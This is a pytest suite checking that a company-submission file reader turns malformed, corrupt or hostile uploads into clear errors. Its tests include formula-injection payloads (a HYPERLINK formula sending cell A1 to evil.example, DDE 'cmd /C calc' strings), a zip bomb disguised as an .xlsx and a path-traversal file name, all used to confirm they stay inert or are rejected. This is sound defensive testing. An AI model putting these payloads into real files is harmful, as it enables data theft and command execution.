"""Every bad input a company can send ends in a file or cell error a person can act on, and the
other files of the period are still read (tasks/submission_readers.py)."""

from __future__ import annotations

import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from schemas.submission import SUBMISSION_FIELDS
from tasks.storage import Storage
from tasks.submission_readers import read_period
from tests.test_submission_readers import LABELS, PERIOD, csv_bytes, good_row, put, xlsx_bytes

PROJECT = Path(__file__).resolve().parents[1]


@pytest.fixture
def storage(tmp_path: Path) -> Storage:
    s = Storage(tmp_path / "data")
    put(s, "zz_good.csv", csv_bytes([good_row(7)]))  # must survive whatever else is in the folder
    return s


def _read(storage: Storage):
    res = read_period(storage, PERIOD)
    good = [f for f in res.files if f.file == "zz_good.csv"]
    assert good and good[0].status == "read" and good[0].rows_read == 1, "the good file was not read"
    assert (res.rows["source_file"] == "zz_good.csv").sum() == 1
    return res


def _file_error(res, name: str) -> dict:
    errs = res.file_errors[res.file_errors["source_file"] == name]
    assert len(errs) >= 1, f"no file error for {name}"
    rec = errs.iloc[0].to_dict()
    assert name in rec["reason_id"]  # names the file
    return rec


def _status(res, name: str) -> str:
    return next(f.status for f in res.files if f.file == name)


def _xlsx_row(overrides: dict[str, object] | None = None) -> list[object]:
    g: dict[str, object] = dict(good_row(3))
    g.update(overrides or {})
    return [g[f.name] for f in SUBMISSION_FIELDS]


def test_empty_file(storage):
    put(storage, "kosong.csv", b"")
    put(storage, "kosong.xlsx", b"")
    res = _read(storage)
    for name in ("kosong.csv", "kosong.xlsx"):
        rec = _file_error(res, name)
        assert rec["reason_code"] == "empty_file" and "kosong" in rec["reason_id"]
        assert _status(res, name) == "unreadable"


def test_file_name_keeps_its_case_in_messages(storage):
    put(storage, "PT_Maju_Jaya.csv", b"")
    rec = _file_error(_read(storage), "PT_Maju_Jaya.csv")
    assert "PT_Maju_Jaya.csv" in rec["reason_id"] and "PT_Maju_Jaya.csv" in rec["reason_en"]


def test_header_only_is_reported_not_fatal(storage):
    put(storage, "judul.csv", csv_bytes([]))
    put(storage, "judul.xlsx", xlsx_bytes({"Isian": [LABELS]}))
    res = _read(storage)
    for name in ("judul.csv", "judul.xlsx"):
        rec = _file_error(res, name)
        assert (rec["reason_code"], rec["severity"]) == ("header_only", "warning")
        assert _status(res, name) == "read"
        assert next(f.rows_read for f in res.files if f.file == name) == 0


def test_random_bytes_named_csv(storage):
    put(storage, "acak.csv", os.urandom(4096))
    put(storage, "zip.csv", xlsx_bytes({"S": [LABELS]}))
    res = _read(storage)
    assert _file_error(res, "acak.csv")["reason_code"] == "not_text"
    assert _file_error(res, "zip.csv")["reason_code"] == "not_text"


def test_text_file_without_header(storage):
    put(storage, "surat.csv", b"Dengan hormat,\nberikut kami kirimkan laporan.\n")
    res = _read(storage)
    rec = _file_error(res, "surat.csv")
    assert rec["reason_code"] == "no_header" and "Penjualan Bersih" in rec["reason_id"]


def test_non_xlsx_named_xlsx(storage):
    put(storage, "bukan.xlsx", csv_bytes([good_row()]))
    put(storage, "dokumen.xlsx", _zip({"word/document.xml": b"<w/>", "[Content_Types].xml": b"<T/>"}))
    res = _read(storage)
    assert _file_error(res, "bukan.xlsx")["reason_code"] == "not_xlsx"
    assert _file_error(res, "dokumen.xlsx")["reason_code"] == "not_xlsx"


def test_truncated_and_corrupt_xlsx(storage):
    data = xlsx_bytes({"Isian": [LABELS, _xlsx_row()]})
    put(storage, "terpotong.xlsx", data[: len(data) // 2])
    broken = bytearray(data)
    start = data.index(b"xl/worksheets/sheet1.xml") + 60  # inside that member's compressed data
    broken[start : start + 200] = b"\x00" * 200
    put(storage, "rusak.xlsx", bytes(broken))
    res = _read(storage)
    rec = _file_error(res, "terpotong.xlsx")
    assert rec["reason_code"] == "corrupt_xlsx" and "kirim ulang" in rec["reason_id"].lower()
    assert _status(res, "rusak.xlsx") == "unreadable"
    assert _file_error(res, "rusak.xlsx")["reason_code"] in {"corrupt_xlsx", "read_failed"}


def _cfb(stream_names: list[str]) -> bytes:
    """A minimal OLE2/CFB container header with directory entry names (enough for detection)."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    entries = b"".join(n.encode("utf-16-le").ljust(64, b"\x00") + b"\x00" * 64 for n in stream_names)
    return header + entries + b"\x00" * 1024


def test_password_protected_xlsx_and_old_xls(storage):
    put(storage, "rahasia.xlsx", _cfb(["Root Entry", "EncryptionInfo", "EncryptedPackage"]))
    put(storage, "lama.xls", _cfb(["Root Entry", "Workbook", "SummaryInformation"]))
    put(storage, "lama_diganti_nama.xlsx", _cfb(["Root Entry", "Workbook"]))
    res = _read(storage)
    rec = _file_error(res, "rahasia.xlsx")
    assert rec["reason_code"] == "encrypted_xlsx" and "kata sandi" in rec["reason_id"]
    assert _file_error(res, "lama.xls")["reason_code"] == "xls_old_format"
    assert ".xlsx atau CSV" in _file_error(res, "lama.xls")["reason_id"]
    assert _file_error(res, "lama_diganti_nama.xlsx")["reason_code"] == "xls_old_format"


def test_formula_cells_without_cached_values(storage):
    # openpyxl stores formulas without cached values: exactly what an unsaved generated file holds.
    row = _xlsx_row({"net_sales": "=2500000*1000", "wages_salaries": 500000000})
    put(storage, "rumus.xlsx", xlsx_bytes({"Isian": [LABELS, row]}))
    res = _read(storage)
    errs = res.cell_errors[res.cell_errors["source_file"] == "rumus.xlsx"]
    assert errs[["source_sheet", "source_row", "column", "reason_code"]].to_dict("records") == [
        {
            "source_sheet": "Isian",
            "source_row": 2,
            "column": "net_sales",
            "reason_code": "formula_without_value",
        }
    ]
    assert "simpan ulang di Excel" in errs.iloc[0]["reason_id"]
    row_out = res.rows[res.rows["source_file"] == "rumus.xlsx"].iloc[0]
    assert pd.isna(row_out["net_sales"]) and row_out["wages_salaries"] == 500_000_000


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def test_zip_bomb_disguised_as_xlsx(storage):
    bomb = _zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "xl/workbook.xml": b"<workbook/>",
            "xl/worksheets/sheet1.xml": b"<" + b"0" * 30_000_000 + b">",
        }
    )
    assert len(bomb) < 200_000  # small on disk
    put(storage, "bom.xlsx", bomb)
    res = _read(storage)
    rec = _file_error(res, "bom.xlsx")
    assert rec["reason_code"] == "zip_bomb" and _status(res, "bom.xlsx") == "unreadable"
    # The total-size limit applies too, whatever the ratio.
    small = Storage(storage.root + "-2")
    put(small, "besar.xlsx", xlsx_bytes({"Isian": [LABELS, _xlsx_row()]}))
    res2 = read_period(small, PERIOD, max_uncompressed_bytes=1_000)
    assert res2.file_errors.iloc[0]["reason_code"] == "zip_bomb"


def test_missing_and_misspelled_columns(storage):
    headers = [f.label_id for f in SUBMISSION_FIELDS]
    headers[headers.index("Penjualan Bersih")] = "Penjualn Bersih"
    headers[headers.index("Kode KBLI")] = "Catatan Internal"
    put(storage, "salah_kolom.csv", csv_bytes([good_row()], headers=headers))
    res = _read(storage)
    errs = res.file_errors[res.file_errors["source_file"] == "salah_kolom.csv"]
    by_code = {c: g for c, g in errs.groupby("reason_code")}
    missing = by_code["missing_columns"].iloc[0]
    assert "'Penjualan Bersih'" in missing["reason_id"] and "'Kode KBLI'" in missing["reason_id"]
    unknown = by_code["unknown_column"]["reason_id"].tolist()
    assert any("'Penjualn Bersih' " in u and "maksud Anda 'Penjualan Bersih'?" in u for u in unknown)
    assert _status(res, "salah_kolom.csv") == "unreadable"


def test_optional_columns_may_be_absent_and_unknown_extra_columns_are_warnings(storage):
    names = [f.name for f in SUBMISSION_FIELDS if f.required]
    headers = [next(f.label_id for f in SUBMISSION_FIELDS if f.name == n) for n in names] + ["Keterangan"]
    put(storage, "minimal.csv", csv_bytes([good_row()], names=names + ["x"], headers=headers))
    res = _read(storage)
    assert _status(res, "minimal.csv") == "read"
    assert _file_error(res, "minimal.csv")["severity"] == "warning"
    row = res.rows[res.rows["source_file"] == "minimal.csv"].iloc[0]
    assert pd.isna(row["capex"]) and row["net_sales"] == 2_500_000_000


def test_text_in_numeric_cells(storage):
    bad = good_row(1)
    bad.update(net_sales="dua juta", workers_avg_total="lima puluh", submitted_on="kemarin", period="Agustus")
    put(storage, "teks.csv", csv_bytes([good_row(0), bad]))
    res = _read(storage)
    errs = res.cell_errors[res.cell_errors["source_file"] == "teks.csv"].set_index("column")
    assert set(errs.index) == {"net_sales", "workers_avg_total", "submitted_on", "period"}
    assert (errs["source_row"] == 3).all() and errs["source_sheet"].isna().all()
    assert errs.loc["net_sales", "reason_code"] == "not_a_number"
    assert errs.loc["net_sales", "value"] == "dua juta"
    msg = errs.loc["net_sales", "reason_id"]
    assert msg.startswith("Baris 3, kolom 'Penjualan Bersih' di berkas 'teks.csv'") and "bukan angka" in msg
    assert errs.loc["period", "reason_code"] == "not_a_period"
    rows = res.rows[res.rows["source_file"] == "teks.csv"]
    assert len(rows) == 2  # rows with bad cells stay, their bad cells NA
    assert pd.isna(rows.iloc[1]["net_sales"]) and rows.iloc[1]["wages_salaries"] == 500_000_000


def test_negative_and_absurd_values_pass_through_typed(storage):
    r = good_row()
    r.update(
        net_sales="-5.000", workers_avg_total="1000000000", hours_normal="-3", capex="900.000.000.000.000.000"
    )
    put(storage, "aneh.csv", csv_bytes([r]))
    res = _read(storage)
    assert res.cell_errors.empty
    row = res.rows[res.rows["source_file"] == "aneh.csv"].iloc[0]
    assert row["net_sales"] == -5000 and row["workers_avg_total"] == 1e9 and row["hours_normal"] == -3.0
    assert row["capex"] == 900_000_000_000_000_000


def test_non_utf8_csv_is_read_as_cp1252_with_a_warning(storage):
    r = good_row()
    r["company_name"] = "CV Café Señor"
    put(storage, "latin.csv", csv_bytes([r], encoding="cp1252"))
    res = _read(storage)
    rec = _file_error(res, "latin.csv")
    assert (rec["reason_code"], rec["severity"]) == ("encoding_cp1252", "warning")
    row = res.rows[res.rows["source_file"] == "latin.csv"].iloc[0]
    assert row["company_name"] == "CV Café Señor"


def test_odd_file_names_are_data(storage):
    names = [
        "laporan agustus 2025 (revisi).csv",
        "PT Maju Jaya — Samarinda ✓.csv",
        "..\\x.csv",
        "~$kunci.xlsx",
    ]
    for i, n in enumerate(names[:3]):
        put(storage, n, csv_bytes([good_row(20 + i)]))
    put(storage, names[3], b"\x00\x01lock")
    res = _read(storage)
    assert {f.file: f.status for f in res.files if f.file != "zz_good.csv"} == {
        names[0]: "read",
        names[1]: "read",
        names[2]: "read",
        names[3]: "unreadable",
    }
    assert set(res.rows["source_file"]) == {*names[:3], "zz_good.csv"}
    # Nothing was written outside the period folder except the manifest.
    root = Path(storage.root)
    assert sorted(p.name for p in (root / "raw" / "submissions").iterdir()) == [PERIOD]
    assert [p.relative_to(root).as_posix() for p in (root / "processed").rglob("*") if p.is_file()] == [
        f"processed/manifests/submissions/{PERIOD}.jsonl"
    ]


def test_unknown_extension(storage):
    put(storage, "laporan.pdf", b"%PDF-1.4 ...")
    put(storage, "tanpa_ekstensi", b"NIB;Nama")
    res = _read(storage)
    assert _file_error(res, "laporan.pdf")["reason_code"] == "unknown_extension"
    assert ".xlsx atau .csv" in _file_error(res, "tanpa_ekstensi")["reason_id"]


def test_ragged_csv_is_a_structure_error(storage):
    text = csv_bytes([good_row()]).decode() + ";".join(["x"] * 40) + "\n"
    put(storage, "miring.csv", text.encode())
    res = _read(storage)
    assert _file_error(res, "miring.csv")["reason_code"] == "bad_structure"
    assert (res.rows["source_file"] == "miring.csv").sum() == 0


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd",
]


def test_formula_injection_stays_inert_and_is_neutralised(storage):
    rows = []
    for i, p in enumerate(PAYLOADS):
        r = good_row(30 + i)
        r["company_name"] = p
        r["net_sales"] = p
        rows.append(r)
    put(storage, "injeksi.csv", csv_bytes(rows, sep=","))
    put(
        storage,
        "injeksi.xlsx",
        xlsx_bytes({"Isian": [LABELS, _xlsx_row({"company_name": "'" + PAYLOADS[0]})]}),
    )
    res = _read(storage)
    got = res.rows[res.rows["source_file"] == "injeksi.csv"]
    assert got["company_name"].tolist() == PAYLOADS  # kept as inert text, not evaluated
    errs = res.cell_errors[res.cell_errors["source_file"] == "injeksi.csv"]
    assert errs["value"].tolist() == ["'" + p for p in PAYLOADS]
    assert not errs["reason_id"].str.match(r"^[=+\-@]").any()
    assert _status(res, "injeksi.xlsx") == "read"


@pytest.mark.slow
def test_200mb_csv_counted_with_bounded_memory(tmp_path):
    """A 200 MB CSV is read in chunks: every row counted, peak memory well under the file's text as
    Python objects (which would be about three times the file size)."""
    script = f"""
import resource, sys
sys.path.insert(0, {str(PROJECT)!r})
from tests.test_submission_readers import csv_bytes, good_row
from tasks.storage import Storage
from tasks.submission_readers import read_period
s = Storage({str(tmp_path / "data")!r})
s.makedirs("raw/submissions/2025-08")
head, line = csv_bytes([good_row()]).split(b"\\n")[:2]
# A long free-text column the readers ignore: the bytes are read, never kept.
head += b";Catatan"
line += b";" + b"catatan panjang " * 40
n = 0
with open(s.local_path("raw/submissions/2025-08/besar sekali.csv"), "wb") as fh:
    fh.write(head + b"\\n")
    block = (line + b"\\n") * 10000
    while n * (len(line) + 1) < 200_000_000:
        fh.write(block)
        n += 10000
size = s.size("raw/submissions/2025-08/besar sekali.csv")
base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
res = read_period(s, "2025-08", chunk_rows=20_000)
peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
typed = int(res.rows.memory_usage(deep=True).sum())
codes = set(res.file_errors["reason_code"])
print(n, len(res.rows), res.files[0].rows_read, res.rows["source_row"].iloc[-1], size, base, peak, typed,
      len(res.cell_errors), int(codes == {{"unknown_column"}}))
"""
    out = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, check=True, cwd=PROJECT
    )
    n, rows, rows_read, last_row, size, base_kb, peak_kb, typed_bytes, n_err, warned = map(
        int, out.stdout.split()
    )
    assert size >= 200_000_000
    assert rows == rows_read == n and last_row == n + 1 and n_err == 0 and warned == 1
    grown = (peak_kb - base_kb) * 1024
    assert grown < 2 * size, (grown, size, typed_bytes)
    assert grown < typed_bytes + 300_000_000, (grown, typed_bytes)


# --- the fast paths read exactly what the general paths read ---------------------------------------------
def _both_ways(storage: Storage, monkeypatch, flag: str):
    import tasks.submission_readers as sr

    monkeypatch.setattr(sr, flag, False)
    general = read_period(storage, PERIOD)
    monkeypatch.setattr(sr, flag, True)
    fast = read_period(storage, PERIOD)
    pd.testing.assert_frame_equal(general.rows, fast.rows)
    pd.testing.assert_frame_equal(general.cell_errors, fast.cell_errors)
    pd.testing.assert_frame_equal(general.file_errors, fast.file_errors)
    assert general.files == fast.files
    return fast


def _tricky_workbooks() -> dict[str, bytes]:
    from datetime import date, datetime, time

    from openpyxl import Workbook
    from openpyxl.cell.rich_text import CellRichText, TextBlock
    from openpyxl.cell.text import InlineFont

    names = [f.name for f in SUBMISSION_FIELDS]
    col = {n: i + 1 for i, n in enumerate(names)}

    def book(
        cells: dict[str, object], formats: dict[str, str] | None = None, *, title_rows: int = 0
    ) -> bytes:
        wb = Workbook()
        ws = wb.active
        ws.title = "Isian"
        for c, label in enumerate(LABELS, 1):
            ws.cell(row=1 + title_rows, column=c, value=label)
        row = dict(good_row(5))
        row.update(cells)
        for n, v in row.items():
            cell = ws.cell(row=2 + title_rows, column=col[n], value=v)
            if formats and n in formats:
                cell.number_format = formats[n]
        if title_rows:
            ws.cell(row=1, column=1, value="LAPORAN — AGUSTUS 2025")
            ws.merge_cells("A1:F1")
        buf = io.BytesIO()
        wb.save(buf)
        return buf.getvalue()

    rich = CellRichText(["PT ", TextBlock(InlineFont(b=True), "Tebal"), " Jaya"])
    money = ["#,##0", "0.0", "0", "#,##0.00", '_(* #,##0_);_(* (#,##0);_(* "-"??_);_(@_)', "0%", "@",
             '"Rp"#,##0', "[$Rp-421]#,##0", "#,##0;[Red]-#,##0"]  # fmt: skip
    books = {
        "angka.xlsx": book(
            {
                "net_sales": 2_500_000_000,
                "wages_salaries": 5e8,
                "workers_avg_total": 50.5,
                "hours_normal": 8650,
                "chg_inventory_fg_wip": -10_000_000,
                "capex": 0,
                "depreciation": 12345.678,
                "nib": 9100000000005,
                "kbli_code": 1111,
                "kabkota_code": 6472,
                "other_benefits": 10**15,
                "purch_energy": True,
            },
            {n: money[i % len(money)] for i, n in enumerate(names[7:])},
        ),  # fmt: skip
        "tanggal.xlsx": book(
            {"submitted_on": datetime(2025, 9, 3), "period": date(2025, 8, 1)},
            {"submitted_on": "dd/mm/yyyy", "period": "mmmm yyyy"},
        ),
        "tanggal_serial.xlsx": book({"submitted_on": 45903}, {"submitted_on": "[$-421]d mmmm yyyy"}),
        "teks.xlsx": book(
            {
                "company_name": "  PT Spasi  ",
                "contact_email": "ü@contoh.test",
                "kabkota_code": "6471 — Balikpapan",
            },
            title_rows=3,
        ),  # fmt: skip
        "kaya.xlsx": book({"company_name": rich}),
        "waktu.xlsx": book({"submitted_on": datetime(2025, 9, 3, 14, 30)}),
        "jam.xlsx": book({"hours_overtime": time(10, 30)}),
        "kuno.xlsx": book({"submitted_on": datetime(1900, 1, 5)}),
        "raksasa.xlsx": book({"net_sales": 2**60}),
        "escape.xlsx": book({"company_name": "PT _x000D_ Baris"}),
        "crlf.xlsx": book({"company_name": "PT Dua\r\nBaris"}),
        "galat.xlsx": book({"net_sales": "#N/A"}),
        # A date or a number where text or another type is due: the text echoed back shows the type.
        "salah_jenis.xlsx": book(
            {"company_name": datetime(2025, 1, 1), "net_sales": date(2025, 1, 2), "submitted_on": 12}
        ),
        "teks_di_angka.xlsx": book({"workers_avg_total": "lima puluh", "net_sales": "Rp 2.500.000,00"}),
    }
    wb = Workbook()
    wb.active.title = "Petunjuk"
    wb["Petunjuk"].append(["NIB", "Kode KBLI", "Penjualan Bersih"])
    wb.create_sheet("Kosong")
    hidden = wb.create_sheet("Tersembunyi")
    hidden.sheet_state = "hidden"
    hidden.append(LABELS)
    hidden.append(_xlsx_row())
    partial = wb.create_sheet("Tanpa NIB")
    partial.append(LABELS[1:])
    partial.append(_xlsx_row()[1:])
    buf = io.BytesIO()
    wb.save(buf)
    books["lembar.xlsx"] = buf.getvalue()
    return books


def test_calamine_reads_exactly_what_openpyxl_reads(storage, monkeypatch):
    import tasks.submission_readers as sr

    for name, data in _tricky_workbooks().items():
        put(storage, name, data)
    used: list[str] = []
    orig = sr._read_xlsx_calamine
    monkeypatch.setattr(
        sr, "_read_xlsx_calamine", lambda src, file, n: used.append(file) or orig(src, file, n)
    )
    res = _both_ways(storage, monkeypatch, "USE_CALAMINE")
    # The everyday workbooks took the fast path (else this test would compare openpyxl with itself) ...
    assert {"angka.xlsx", "tanggal.xlsx", "tanggal_serial.xlsx", "teks.xlsx", "kaya.xlsx", "lembar.xlsx",
            "teks_di_angka.xlsx", "salah_jenis.xlsx"} <= set(used), used  # fmt: skip
    # ... and those calamine would read differently went to openpyxl before anything was yielded.
    assert not {"escape.xlsx", "crlf.xlsx", "galat.xlsx"} & set(used)
    assert res.rows.loc[res.rows["source_file"] == "angka.xlsx", "net_sales"].tolist() == [2_500_000_000]
    assert (res.cell_errors["source_file"] == "teks_di_angka.xlsx").sum() == 1
    wrong = res.cell_errors[res.cell_errors["source_file"] == "salah_jenis.xlsx"]
    assert sorted(wrong["value"]) == ["12", "2025-01-02 00:00:00"]


def test_calamine_date_rule_is_the_library_s(tmp_path):
    """The copy of calamine's date-format rule decides when openpyxl must read instead: it must match
    what the installed python-calamine does (a library upgrade that changes the rule fails here)."""
    from openpyxl import Workbook
    from python_calamine import CalamineWorkbook

    from tasks.submission_readers import _calamine_date_format

    codes = ["0.0", "#,##0", "yyyy-mm-dd", "dd/mm/yyyy", "d mmmm yyyy", "[$-421]d mmmm yyyy", "mmm-yy",
             'hh:mm "jam"', "h:mm AM/PM", "[h]:mm", '"d"0', "\\d0", "_d0", "0;[Red]-0", "[Red]0", "0 \\h",
             "General", "0.00E+00", "# ?/?", "@", '"Rp"#,##0', "am/pm0", "[mm]:ss", "[$Rp-421]#,##0"]  # fmt: skip
    wb = Workbook()
    for i, code in enumerate(codes, 1):
        wb.active.cell(row=i, column=1, value=45000.25).number_format = code
    wb.save(tmp_path / "f.xlsx")
    rows = CalamineWorkbook.from_path(str(tmp_path / "f.xlsx")).get_sheet_by_index(0).to_python()
    lib = [not isinstance(r[0], float) for r in rows]
    assert lib == [_calamine_date_format(c) for c in codes]


def test_small_csv_split_in_python_matches_pandas(storage, monkeypatch):
    head = ";".join(LABELS)
    line = ";".join(_xlsx_row())
    texts = {
        "crlf.csv": f"{head}\r\n{line}\r\n\r\n{line}\r\n",
        "cr.csv": f"{head}\r{line}\r{line}",
        "kosong_tengah.csv": f"Laporan Agustus\n\n{head}\n{line}\n   \n;;;\n{line}\n\n",
        "pendek.csv": f"{head}\n{line.rsplit(';', 5)[0]}\n",
        "lebih.csv": f"{head}\n{line};;x\n",
        "jauh_lebih.csv": f"{head}\n{line}" + ";x" * 20 + "\n",
        "sep_hint.csv": f"sep=;\n{head}\n{line}\n",
        "koma.csv": f"{','.join(LABELS)}\n{','.join(_xlsx_row())}\n",
        "kutip.csv": f'{head}\n"PT A;B"{line[line.index(";") :]}\n',
        "bom.csv": "\ufeff" + f"{head}\n{line}\n",
        "judul_saja.csv": head,
        "form_feed.csv": f"Judul\x0cLain\n{head}\n{line}\n",
    }
    for name, text in texts.items():
        put(storage, name, text.encode("utf-8"))
    put(storage, "cp1252.csv", f"{head}\n{line.replace('PT Sintetis', 'PT Señor')}\n".encode("cp1252"))
    res = _both_ways(storage, monkeypatch, "USE_FAST_CSV")
    assert res.rows["source_file"].value_counts()["kosong_tengah.csv"] == 2
    assert res.rows.loc[res.rows["source_file"] == "kosong_tengah.csv", "source_row"].tolist() == [4, 7]
    assert _file_error(res, "lebih.csv")["reason_code"] == "bad_structure"


@pytest.mark.parametrize("worker_types", [False, True], ids=["workers-parse", "workers-parse-and-type"])
def test_worker_processes_give_the_in_process_result(storage, monkeypatch, worker_types):
    """Many small files are parsed by worker processes; the result must be the serial one, in the
    same order, including formula cells, rejected files, quoted CSVs and bad cells in several files.
    A worker may also type its batch (bulk exports) while this process types the rest as it comes."""
    import tasks.process_pool as pp
    import tasks.submission_readers as sr

    for i in range(6):
        put(
            storage,
            f"perusahaan_{i}.xlsx",
            xlsx_bytes({"Isian": [LABELS, _xlsx_row({"nib": f"91000000001{i:02d}"})]}),
        )
        put(storage, f"perusahaan_{i}.csv", csv_bytes([good_row(40 + i)]))
    put(storage, "rumus.xlsx", xlsx_bytes({"Isian": [LABELS, _xlsx_row({"net_sales": "=1+1"})]}))
    put(storage, "terpotong.xlsx", xlsx_bytes({"Isian": [LABELS, _xlsx_row()]})[:500])
    put(storage, "kutip.csv", csv_bytes([dict(good_row(50), company_name='PT "Kutip"; Jaya')]))
    put(storage, "kosong.csv", b"")
    put(storage, "ekspor.csv", csv_bytes([good_row(100 + i) for i in range(400)]))  # > the probe's head
    put(storage, "angka_salah.csv", csv_bytes([dict(good_row(70), net_sales="banyak"), good_row(71)]))
    put(storage, "angka_salah_2.csv", csv_bytes([dict(good_row(72), workers_avg_total="x", net_sales="?")]))
    if worker_types:
        monkeypatch.setattr(sr, "WORKER_TYPE_MIN_ROWS", 50)  # the export's batch
        monkeypatch.setattr(sr, "OVERLAP_TYPE_ROWS", 2)  # the rest, typed here a few rows at a time
    monkeypatch.setattr(sr, "POOL_MIN_FILES", 10**9)
    serial = read_period(storage, PERIOD)
    started: list[int] = []
    real_popen = pp.subprocess.Popen
    monkeypatch.setattr(pp.subprocess, "Popen", lambda *a, **k: started.append(1) or real_popen(*a, **k))
    monkeypatch.setattr(sr, "POOL_MIN_FILES", 1)
    monkeypatch.setattr(sr, "POOL_BATCH_FILES", 3)
    monkeypatch.setattr(sr, "_workers", lambda: 2)
    typed_here: list[int] = []
    real_type_rows = sr._type_rows
    monkeypatch.setattr(sr, "_type_rows", lambda raw: typed_here.append(len(raw)) or real_type_rows(raw))
    pooled = read_period(storage, PERIOD)
    assert len(started) == 2  # the pool really ran
    if worker_types:  # the export's batch (400 rows and more) was typed in a worker, the others here
        assert 0 < sum(typed_here) <= len(pooled.rows) - 400
    else:
        assert sum(typed_here) == len(pooled.rows)
    pd.testing.assert_frame_equal(serial.rows, pooled.rows)
    pd.testing.assert_frame_equal(serial.cell_errors, pooled.cell_errors)
    pd.testing.assert_frame_equal(serial.file_errors, pooled.file_errors)
    assert serial.files == pooled.files
    assert (pooled.cell_errors["reason_code"] == "formula_without_value").sum() == 1
    assert _status(pooled, "terpotong.xlsx") == "unreadable" and len(pooled.rows) == 418
    # cell errors come file by file, in the order the files were first seen
    ranks = {f.file: f.first_seen_order for f in pooled.files}
    assert pooled.cell_errors["source_file"].map(ranks).is_monotonic_increasing
    assert set(pooled.cell_errors["source_file"]) >= {"angka_salah.csv", "angka_salah_2.csv", "rumus.xlsx"}


def test_a_worker_that_cannot_start_falls_back_to_in_process(storage, monkeypatch):
    import tasks.process_pool as pp
    import tasks.submission_readers as sr

    for i in range(4):
        put(storage, f"p{i}.csv", csv_bytes([good_row(60 + i)]))

    def no_processes(*a, **k):
        raise OSError("no processes here")

    monkeypatch.setattr(pp.subprocess, "Popen", no_processes)
    monkeypatch.setattr(sr, "POOL_MIN_FILES", 1)
    monkeypatch.setattr(sr, "_workers", lambda: 2)
    res = _read(storage)
    assert len(res.rows) == 5 and res.file_errors.empty
